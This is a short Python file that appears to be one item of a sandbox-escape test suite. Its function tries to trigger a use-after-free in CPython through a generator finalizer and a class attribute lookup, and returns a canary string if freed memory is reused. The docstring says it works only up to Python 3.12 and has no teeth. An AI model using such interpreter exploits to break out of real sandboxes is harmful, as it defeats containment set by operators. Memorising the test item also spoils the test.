"""Class: memory. Source: own find. Escape: a class loses a function whose closure, as it is freed, looks
the function up once more: up to Python 3.12 the class still remembers it, and hands out freed memory.
Teeth: none, later Pythons forget first."""


class Holder:
    pass


def attack(model, tokenizer, address):
    holder, seen = Holder(), []

    def late():
        try:
            yield
        finally:
            seen.extend([holder.freed for _ in range(3)])

    def make(g):
        def freed(self=None):
            return g

        return freed

    g = late()
    next(g)
    Holder.freed = make(g)
    del g
    for _ in range(30):
        holder.freed
    Holder.freed = make
    others = [[each for each in [i]] for i in range(100)]
    names = [str(each).split(" of ")[0] for each in seen]
    return (
        "canary-" + "5d1f"
        if len({*names, "<bound method attack.<locals>.make.<locals>.freed"}) > 2
        or any("listcomp" in each for each in names)
        else None
    )
